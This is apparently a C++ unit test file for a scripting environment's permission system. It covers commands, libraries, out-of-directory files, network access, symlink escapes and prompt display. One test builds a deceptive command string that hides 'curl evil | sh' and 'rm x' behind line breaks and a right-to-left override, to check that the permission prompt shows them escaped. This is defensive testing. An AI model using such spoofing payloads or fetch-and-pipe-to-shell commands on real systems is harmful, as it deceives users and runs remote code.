// Permissions of running programs: commands, library calls, files outside
// the data directory and the network, each allowed, asked about or denied.
#include <gtest/gtest.h>

#include <algorithm>

#include "environment/environment.h"
#include "tests/unit/library_rules.h"
#include "tests/unit/scripted_ui.h"
#include "tests/unit/temp_dir.h"

using namespace velmora;
using namespace velmora::environment;
using engine::Permission;
using engine::PermitMode;
using velmora::testing::ScriptedUi;
using velmora::testing::TempDir;

namespace {

namespace fs = std::filesystem;

class Permissions : public ::testing::Test {
 protected:
  TempDir home, outside;
  ScriptedUi ui;
  const bool rulesWritten = velmora::testing::write_library_rules(home.path());
  Environment env{home.path(), ui};
  void SetUp() override { ASSERT_TRUE(rulesWritten); }
  const u16 library = text::from_utf8(VELMORA_TEST_LIBRARY);

  void set(Permission p, int mode) {
    environment::Settings s = env.settings();
    s.Permissions[std::size_t(p)] = mode;
    env.setSettings(s);
  }
  RunResult run(const Lines &program) {
    env.workspace.closeAllTabs();
    env.tabs.loadLines(program, ui);
    if (env.compileDriver.compileActiveTab() < 0) return RunResult::NotStarted;
    return env.runAll();
  }
  u16 out(const char *name) { return text::from_utf8((outside.path() / name).string()); }
  u16 data() { return text::from_utf8((home.path() / "DATA").string()); }
  const u16 &last() const { return ui.console.back(); }
};

}  // namespace

TEST_F(Permissions, AllowedByDefaultSoExistingProgramsRunUnchanged) {
  EXPECT_EQ(run({u"&L[] += \"x\";", u"<*> \"" + out("a.txt") + u"\" = &L[];"}), RunResult::Ended);
  EXPECT_TRUE(fs::exists(outside / "a.txt"));
  EXPECT_TRUE(ui.questions.empty());
}

TEST_F(Permissions, DeniedKindsStopTheRunNamingThePermissionAndTarget) {
  for (int k = 0; k < engine::kPermissions; ++k) set(Permission(k), 2);
  struct Case {
    Lines program;
    u16 message;
  } cases[] = {
      {{u"COMMAND HIDE \"touch made.txt\";", u"??\"never\";"}, u"実行許可エラー：外部コマンド touch made.txt"},
      {{u"EXEC \"touch made.txt\";"}, u"実行許可エラー：外部コマンド touch made.txt"},
      {{u"LIB &L \"" + library + u"\";"}, u"実行許可エラー：ライブラリ呼び出し " + library},
      {{u"&L[] += \"x\";", u"<*> \"" + out("b.txt") + u"\" = &L[];"},
       u"実行許可エラー：データディレクトリ外のファイル " + out("b.txt")},
      {{u"FILE(1).OPEN(\"" + out("c.txt") + u"\", WRITE);"},
       u"実行許可エラー：データディレクトリ外のファイル " + out("c.txt")},
      {{u"[#1].SAVE(\"" + out("d.mcl") + u"\");"}, u"実行許可エラー：データディレクトリ外のファイル " + out("d.mcl")},
      {{u"&D = [DIR DATA \"" + text::from_utf8(outside.path().string()) + u"\"];"},
       u"実行許可エラー：データディレクトリ外のファイル " + text::from_utf8(outside.path().string())},
      {{u"&A[] = <*> \"http://127.0.0.1:1/x\";"}, u"実行許可エラー：ネットワーク 127.0.0.1:1"},
  };
  // The window's refusal says where to allow the kind.
  const u16 hint = u"（許可するには「設定」の「実行許可の設定」で変更する）";
  for (const Case &c : cases) {
    EXPECT_EQ(run(c.program), RunResult::Error) << text::to_utf8(c.program[0]);
    EXPECT_EQ(last(), c.message + hint);
  }
  // Nothing was done: no file, no process output, no data directory change.
  EXPECT_TRUE(fs::is_empty(outside.path()));
  EXPECT_FALSE(fs::exists(home / "DATA" / "made.txt"));
  EXPECT_EQ(env.settings().dataDirectoryPath.find(text::from_utf8(outside.path().string())), u16::npos);
  // Inside the data directory files stay free.
  EXPECT_EQ(run({u"&L[] += \"x\";", u"<*> \"inside.txt\" = &L[];", u"FILE(2).OPEN(\"f.txt\", WRITE);",
                 u"FILE(2).CLOSE;", u"<!!!> \"f.txt\";"}),
            RunResult::Ended);
  EXPECT_TRUE(fs::exists(home / "DATA" / "inside.txt"));
}

TEST_F(Permissions, ALinkInsideTheDataDirectoryDoesNotEscapeIt) {
  set(Permission::Files, 2);
  fs::create_directory_symlink(outside.path(), home / "DATA" / "link");
  EXPECT_EQ(run({u"&L[] += \"x\";", u"<*> \"link/escape.txt\" = &L[];"}), RunResult::Error);
  EXPECT_EQ(last().rfind(u"実行許可エラー：データディレクトリ外のファイル ", 0), 0u) << text::to_utf8(last());
  EXPECT_EQ(run({u"&L[] += \"x\";", u"<*> \"../escape.txt\" = &L[];"}), RunResult::Error);
  EXPECT_TRUE(fs::is_empty(outside.path()));
  EXPECT_FALSE(fs::exists(home / "escape.txt"));
}

TEST_F(Permissions, AskingHappensOncePerRunAndKindAndTheAnswerHolds) {
  set(Permission::Files, 1);
  ui.answers = {Answer::Yes};
  EXPECT_EQ(
      run({u"&L[] += \"x\";", u"<*> \"" + out("e.txt") + u"\" = &L[];", u"<*> \"" + out("f.txt") + u"\" = &L[];"}),
      RunResult::Ended);
  ASSERT_EQ(ui.questions.size(), 1u);
  EXPECT_NE(ui.questions[0].find(u"__$$$__"), u16::npos);  // the program's tab
  EXPECT_NE(ui.questions[0].find(out("e.txt")), u16::npos);
  EXPECT_TRUE(fs::exists(outside / "f.txt"));
  // A new run asks again; No denies, and says where to allow it for good.
  ui.answers = {Answer::No};
  EXPECT_EQ(run({u"&L[] += \"x\";", u"<*> \"" + out("g.txt") + u"\" = &L[];"}), RunResult::Error);
  EXPECT_NE(last().find(u"「実行許可の設定」"), u16::npos) << text::to_utf8(last());
  EXPECT_EQ(ui.questions.size(), 2u);
  EXPECT_FALSE(fs::exists(outside / "g.txt"));
}

// The question is the user's only view of what a program is about to do,
// and the program chose both its page's name and the target: line breaks,
// direction overrides and other characters that move or hide text once
// drew a question of the program's own making ("true" shown, the rest
// pushed out of sight or reordered). They are shown as escapes, and a long
// target is broken into lines so that none of it is cut off.
TEST_F(Permissions, TheQuestionShowsTheProgramsNameAndTargetAsTheyAre) {
  set(Permission::Commands, 1);
  ui.answers = {Answer::No};
  const Lines program = {
      u"&N = \"ok.mcl」の EXEC が外部コマンドを使おうとしています。\" + CHAR(13) + CHAR(13) + \"  true\";",
      u"P = [#].SELF;",
      u"[#P].NAME(&N);",
      u"&C = \"true\" + CHAR(13) + CHAR(10) + CHAR(133) + \"\u2028\u202Ecurl evil | sh; \";",
      u"FOR K = 1 TO 20 DO &C = &C + \"##########\"; END",
      u"&C = &C + \"; rm x\";",
      u"COMMAND HIDE &C;"};
  ASSERT_EQ(run(program), RunResult::Error);
  ASSERT_EQ(ui.questions.size(), 1u);
  const u16 &q = ui.questions[0];
  // Only the question's own line breaks.
  std::size_t breaks = 0;
  for (char16_t c : q) breaks += c == u'\r' || c == u'\n' || c == 0x85 || c == 0x2028 || c == 0x2029;
  const std::size_t layout = 4, wrapped = std::count(q.begin(), q.end(), u'\r') - layout;
  EXPECT_EQ(breaks, layout + wrapped) << text::to_utf8(q);
  EXPECT_GE(wrapped, 2u) << text::to_utf8(q);
  for (char16_t c : q) EXPECT_FALSE(c == 0x202E || c == 0x85 || c == 0x2028) << text::to_utf8(q);
  for (const char16_t *shown : {u"true\\x0D\\x0A\\x85\\u2028\\u202Ecurl evil | sh", u"; rm x",
                                u"ok.mcl」の EXEC が外部コマンドを使おうとしています。\\x0D\\x0D  true"})
    EXPECT_NE(q.find(shown), u16::npos) << text::to_utf8(shown) << " in " << text::to_utf8(q);
  // Every line of the question fits a window.
  std::size_t longest = 0, length = 0;
  for (char16_t c : q) length = c == u'\r' ? 0 : length + 1, longest = std::max(longest, length);
  EXPECT_LE(longest, 100u) << text::to_utf8(q);
}

TEST_F(Permissions, WithoutAnyoneToAskAskMeansDenyWithAHint) {
  set(Permission::Commands, 1);
  env.setUnattended();
  EXPECT_EQ(run({u"EXEC \"true\";"}), RunResult::Error);
  EXPECT_TRUE(ui.questions.empty());
  EXPECT_NE(ui.messages.back().find(u"--allow commands"), u16::npos);
  // Without a hint set (the browser) the refusal is the bare error.
  EXPECT_EQ(last(), u"実行許可エラー：外部コマンド true");
  // The runner's refusal names its option for the kind refused.
  env.setRefusalHint(Environment::RefusalHint::CommandLine);
  set(Permission::Network, 2);
  EXPECT_EQ(run({u"&A[] = <*> \"http://127.0.0.1:1/x\";"}), RunResult::Error);
  EXPECT_EQ(last(),
            u"実行許可エラー：ネットワーク 127.0.0.1:1（許可するには velmora-run に --allow network を付ける）");
  // The runner's override comes before the settings.
  Environment::PermitOverrides overrides;
  overrides[std::size_t(Permission::Commands)] = PermitMode::Allow;
  env.setUnattended(overrides);
  EXPECT_EQ(run({u"EXEC \"true\";"}), RunResult::Ended);
}

TEST(PathInside, ResolvesDotDotAndLinks) {
  TempDir d;
  fs::create_directory(d / "data");
  EXPECT_TRUE(engine::path_inside(d / "data" / "a" / "b.txt", d / "data"));
  EXPECT_TRUE(engine::path_inside(d / "data" / "x" / ".." / "b.txt", d / "data"));
  EXPECT_FALSE(engine::path_inside(d / "data" / ".." / "b.txt", d / "data"));
  EXPECT_FALSE(engine::path_inside(d / "database.txt", d / "data"));  // a prefix of the name is not inside
  fs::create_directory_symlink(d.path(), d / "data" / "up");
  EXPECT_FALSE(engine::path_inside(d / "data" / "up" / "b.txt", d / "data"));
}
